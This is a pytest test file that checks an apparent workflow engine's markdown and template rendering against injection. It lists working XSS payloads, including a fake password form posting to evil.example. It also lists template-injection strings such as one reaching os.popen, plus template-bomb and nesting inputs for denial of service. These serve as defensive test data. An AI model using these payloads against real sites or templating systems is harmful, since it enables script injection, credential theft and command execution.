"""Promise 11 of docs/security.md: what process owners write, and what people type, is text wherever it is shown."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from engine.playground import Playground
from engine.store import tables as t
from engine.text import LONGEST, fill, instructions_html, markdown_html
from tests.diagrams import diagram

EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](http://tracker.example/x.png)",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=password>",
    "<a href=# onclick=alert(1) style=position:fixed id=a class=b>x</a>",
    "<!-- --><iframe src=//evil.example>",
    '<https://evil.example/" onmouseover=alert(1)>',
    '[x](https://a.example "\\" onmouseover=alert(1)")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
FORBIDDEN = (
    "<script",
    "<img",
    "<svg",
    "<style",
    "<form",
    "<input",
    "<iframe",
    'href="javascript',
    'href="data',
    'href="vb',
)


def is_clean(html: str) -> bool:
    """No element but harmless ones, and no attribute that runs or styles anything."""
    inside = [part.partition(">")[0] for part in html.split("<")[1:]]
    return not any(sign in html.lower() for sign in FORBIDDEN) and not any(
        f" {name}=" in tag.lower() and tag.lower().count('"') % 2 == 1
        for tag in inside
        for name in ("onclick", "style")
    )


@pytest.mark.parametrize("text", EVIL)
def test_markdown_of_owners_cannot_carry_a_script(text: str) -> None:
    assert is_clean(markdown_html(text))
    assert is_clean(instructions_html(f"Dear {text}, {{{{ x }}}}", {"x": text}))


@pytest.mark.parametrize("text", EVIL)
def test_a_value_is_shown_as_what_it_is(text: str) -> None:
    html = instructions_html("{{ x }}", {"x": text})

    assert "<" not in html.removeprefix("<p>").removesuffix("</p>\n")


@pytest.mark.parametrize(
    "text",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{% for x in range(10**9) %}{% endfor %}",
        "{{ ''.__class__.__mro__ }}",
        "{{ 7 * 7 }}",
        "{{ x | upper }}",
        "{{ x() }}",
        "{# comment #}",
    ],
)
def test_a_template_is_no_program(text: str) -> None:
    assert fill(text, {"x": "value"}) == text


def test_placeholders_read_what_is_there_and_nothing_else() -> None:
    variables = {"customer": {"name": "Li Wei", "phones": ["1", "2"]}, "amount": 3, "none": None, "客户": "王"}

    filled = fill(
        "{{customer.name}} {{ customer.phones.1 }} {{amount}} {{none}}{{nobody}}{{customer.name.upper}} {{客户}}",
        variables,
    )

    assert filled == "Li Wei 2 3  王"
    assert fill("{{ customer.__class__ }}{{ customer.keys }}", variables) == ""


def test_a_text_costs_what_it_is_long() -> None:
    bomb = "{{ x }}" * 10_000

    assert len(fill(bomb, {"x": "y" * 100_000})) <= LONGEST
    assert len(fill("{{" * 50_000, {})) <= LONGEST
    assert markdown_html("[" * 5_000 + "]" * 5_000)
    assert markdown_html("> " * 2_000 + "x")


def test_markdown_still_serves_its_purpose() -> None:
    html = instructions_html(
        "## Measure\n\n- call **{{ name }}**\n- see [the guide](https://example.com/a)\n", {"name": "Ann"}
    )

    assert "<h2>Measure</h2>" in html and "<strong>Ann</strong>" in html
    assert 'href="https://example.com/a"' in html and "noopener" in html


def test_a_task_is_called_by_its_case_and_never_by_what_is_sensitive() -> None:
    content = diagram(
        '<userTask id="u" name="Order for {{ customer.name }} {{ iban }} {{ missing }}{{ 7 * 7 }}" '
        'facet:name-zh="订单：{{ customer.name }}"/>',
        "s>u>e",
        attributes='facet:sensitiveVariables="iban"',
    )
    with Playground() as play:
        assert play.deploy({"p.bpmn": content}).accepted
        instance = play.start("p", {"customer": {"name": "<b>Li\n & Co</b>"}, "iban": "DE89370400440532013000"})

        (task,) = play.tasks(instance)
        with play.database.read() as connection:
            (chinese,) = connection.execute(select(t.task.c.name_zh)).scalars()

    assert task.name == "Order for <b>Li & Co</b> {{ 7 * 7 }}"
    assert chinese == "订单：<b>Li & Co</b>"


def test_a_name_is_as_long_as_a_name_may_be() -> None:
    content = diagram('<userTask id="u" name="{{ a }}{{ a }}{{ a }}"/>', "s>u>e")
    with Playground() as play:
        assert play.deploy({"p.bpmn": content}).accepted

        (task,) = play.tasks(play.start("p", {"a": "x" * 1_000}))

    assert task.name == "x" * 400
